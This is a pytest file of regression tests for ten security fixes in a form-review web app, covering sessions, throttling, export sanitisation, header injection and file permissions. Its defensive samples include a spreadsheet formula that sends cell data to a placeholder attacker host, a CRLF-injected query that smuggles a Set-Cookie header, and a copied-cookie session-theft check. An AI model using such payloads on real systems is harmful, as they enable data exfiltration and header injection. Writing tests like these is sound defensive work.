"""The ten security findings of issue 13, each replayed as it was reproduced (each failed before the fix).

1 sessions end at logout and on a new password · 2 login throttling · 3 body-size limit before
parsing · 4 no live formulas in exports · 5 skip lists off the cookie · 6 CR/LF never reaches a
header · 7 huge ids are a 404 · 8 security headers · 9 a named pipe does not hang a scan ·
10 the database and the identities file are private (0600).
"""

from __future__ import annotations

import csv
import dataclasses
import os
import stat
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import openpyxl
from _workspace import MINI, password
from conftest import TestClient
from sqlalchemy import func, select, update

from omr.ingest import iter_input_paths
from omr.render import new_copies, write_identities
from omr.store.db import DB_FILENAME, Store, open_store
from omr.store.schema import AnswerRow, AuditEvent, ReviewItem
from omr.template.load import load_template
from omr.types import PageError
from review_ui.users import set_password
from scoring.data import load_store_dataset
from scoring.export import export_answers, export_dataset

Make = Callable[[str | None], tuple[TestClient, str]]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _next(c: TestClient, tok: str) -> dict[str, object]:
    r = c.post("/api/queue/next", json={}, headers={"X-CSRF-Token": tok})
    assert r.status_code == 200, r.text
    item = r.json()["item"]
    assert isinstance(item, dict)
    return item


# 1 ---------------------------------------------------------------------------------------------
def test_1_a_cookie_copied_before_logout_stops_working(client_for: Make) -> None:
    a, tok = client_for("rev1")
    thief, _ = client_for(None)
    thief.cookies.update(a.cookies)
    assert thief.get("/api/queue").status_code == 200
    assert a.post("/logout", data={"csrf_token": tok}, follow_redirects=False).status_code == 303
    assert thief.get("/api/queue").status_code == 401


def test_1_a_new_password_ends_every_session(client_for: Make, store: Store) -> None:
    a, _ = client_for("rev2")
    assert a.get("/api/queue").status_code == 200
    set_password(store, "rev2", "a-brand-new-password")
    assert a.get("/api/queue").status_code == 401


# 2 ---------------------------------------------------------------------------------------------
def test_2_wrong_passwords_lock_the_account_with_retry_after(client_for: Make, store: Store) -> None:
    c, tok = client_for(None)
    codes = [c.post("/api/login", json={"name": "rev1", "password": f"guess-{i:04d}"},
                    headers={"X-CSRF-Token": tok}).status_code for i in range(8)]
    assert codes[:5] == [401] * 5 and codes[5:] == [429] * 3
    r = c.post("/api/login", json={"name": "rev1", "password": password("rev1")}, headers={"X-CSRF-Token": tok})
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
    with store.session() as s:
        assert s.scalar(select(func.count()).where(AuditEvent.action == "login-throttled")) == 1
    other, otok = client_for(None)  # another account from the same address still gets in
    assert other.post("/api/login", json={"name": "rev2", "password": password("rev2")},
                      headers={"X-CSRF-Token": otok}).status_code == 200


# 3 ---------------------------------------------------------------------------------------------
def test_3_an_oversized_anonymous_body_is_refused_before_parsing(client_for: Make) -> None:
    c, tok = client_for(None)
    big = b'{"name": "' + b"a" * (3 << 20) + b'", "password": "x"}'
    r = c.post("/api/login", content=big, headers={"X-CSRF-Token": tok, "Content-Type": "application/json"})
    assert r.status_code == 413 and r.json()["status"] == 413

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted while read
        for _ in range(64):
            yield b"a" * 65536

    r = c.post("/api/login", content=chunks(), headers={"X-CSRF-Token": tok, "Content-Type": "application/json"})
    assert r.status_code == 413
    r = c.post("/api/login", content=b"name=rev1", headers={"X-CSRF-Token": tok, "Content-Type": "text/plain"})
    assert r.status_code == 415
    # an anonymous body for a route that needs a session is refused before it is read (not parsed: 401)
    r = c.post("/api/items/1/submit", content=b"{not json" + b" " * 100_000,
               headers={"X-CSRF-Token": tok, "Content-Type": "application/json"})
    assert r.status_code == 401


# 4 ---------------------------------------------------------------------------------------------
def test_4_a_transcribed_formula_is_inert_in_every_export(store: Store, tmp_path: Path) -> None:
    with store.session() as s:
        s.execute(update(AnswerRow).where(AnswerRow.field == "OPINION").values(value=FORMULA, status="reviewed"))
    answers = tmp_path / "answers.csv"
    export_answers(store, answers)
    with answers.open(encoding="utf-8") as fh:
        values = [row["value"] for row in csv.DictReader(fh)]
    assert FORMULA not in values and "'" + FORMULA in values
    dataset = load_store_dataset(store, load_template(MINI), include_unverified=True)
    export_dataset(dataset, tmp_path / "d.csv", "csv", include_unverified=True)
    assert "'" + FORMULA in (tmp_path / "d.csv").read_text(encoding="utf-8").replace('""', '"')
    export_dataset(dataset, tmp_path / "d.xlsx", "xlsx", include_unverified=True)
    sheet = openpyxl.load_workbook(tmp_path / "d.xlsx")["data"]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)


# 5 ---------------------------------------------------------------------------------------------
def test_5_hundreds_of_skips_keep_the_cookie_small_and_never_loop(client_for: Make, store: Store) -> None:
    with store.session() as s:
        template = s.scalars(select(ReviewItem).where(ReviewItem.kind == "field")).first()
        assert template is not None
        s.add_all(ReviewItem(kind="field", form_id=template.form_id, field=template.field,
                             question="ZZ", reason="test") for _ in range(440))
    c, tok = client_for("rev1")
    r = c.post("/api/queue/next", json={"question": "ZZ"}, headers={"X-CSRF-Token": tok})
    item = r.json()["item"]
    seen: set[int] = set()
    while item is not None:
        assert item["id"] not in seen, "an item came back before the queue was done"
        seen.add(item["id"])
        r = c.post(f"/api/items/{item['id']}/skip", json={"lease_token": item["lease_token"], "next_question": "ZZ"},
                   headers={"X-CSRF-Token": tok})
        assert r.status_code == 200, r.text
        item = r.json()["next"]
    assert len(seen) == 440
    assert all(len(v) < 1024 for v in c.cookies.values())
    assert c.get("/api/queue").status_code == 200  # still logged in


# 6, 7 ------------------------------------------------------------------------------------------
def test_6_crlf_in_a_query_never_reaches_a_header(live_server: str) -> None:
    with httpx.Client(base_url=live_server) as c:
        tok = c.get("/api/session").json()["csrf_token"]
        c.post("/api/login", json={"name": "rev1", "password": password("rev1")}, headers={"X-CSRF-Token": tok})
        r = c.get("/queue?question=Q9%0D%0ASet-Cookie:%20evil=1")
        assert r.status_code in (404, 422) and "evil" not in r.headers.get("set-cookie", "")
        assert all("\r" not in v and "\n" not in v for v in r.headers.values())
        ok = c.get("/queue?question=Q9")
        assert ok.status_code == 200 and ok.headers["link"].startswith("</api/queue?question=Q9>")


def test_7_an_id_beyond_any_integer_is_a_404(live_server: str) -> None:
    with httpx.Client(base_url=live_server) as c:
        tok = c.get("/api/session").json()["csrf_token"]
        tok = c.post("/api/login", json={"name": "admin", "password": password("admin")},
                     headers={"X-CSRF-Token": tok}).json()["csrf_token"]
        for path in ("/api/pages/99999999999999999999999", "/api/pages/-1", "/img/boxes/99999999999999999999.png",
                     "/api/pages/x"):
            r = c.get(path)
            assert r.status_code == 404, path
            assert not path.startswith("/api/") or r.json()["status"] == 404
        r = c.post("/api/bulk/mini/A1", json={"marked": [10**30], "revisions": {}}, headers={"X-CSRF-Token": tok})
        assert r.status_code == 422


# 8 ---------------------------------------------------------------------------------------------
def test_8_every_response_forbids_framing_and_sniffing(client_for: Make) -> None:
    c, _ = client_for("rev1")
    for path in ("/queue", "/login", "/api/queue", "/static/app.css", "/no-such-page", "/api/pages/0"):
        h = c.get(path).headers
        assert h["x-frame-options"] == "DENY" and h["x-content-type-options"] == "nosniff", path
        csp = h["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp
        assert h["referrer-policy"] == "same-origin"


# 9 ---------------------------------------------------------------------------------------------
def test_9_a_named_pipe_in_a_scan_folder_is_skipped_with_a_reason(tmp_path: Path) -> None:
    folder = tmp_path / "scans"
    folder.mkdir()
    os.mkfifo(folder / "stuck.pdf")
    store = open_store(tmp_path / "ws")
    from omr.batch import scan

    done: list[object] = []
    worker = threading.Thread(target=lambda: done.append(scan([folder], store)), daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert done, "scanning a folder with a named pipe did not finish"
    found = list(iter_input_paths([folder]))
    assert len(found) == 1 and isinstance(found[0], PageError) and "named pipe" in found[0].reason
    store.engine.dispose()


# 10 --------------------------------------------------------------------------------------------
def test_10_database_and_identities_are_private(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        store = open_store(tmp_path / "ws")
        store.engine.dispose()
        people = [dataclasses.replace(c, identity={"name": "Nguyễn Văn A", "phone": "0900"})
                  for c in new_copies(2, seed=5)]
        write_identities(people, tmp_path / "forms.identities.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "ws" / DB_FILENAME).stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "forms.identities.csv").stat().st_mode) == 0o600
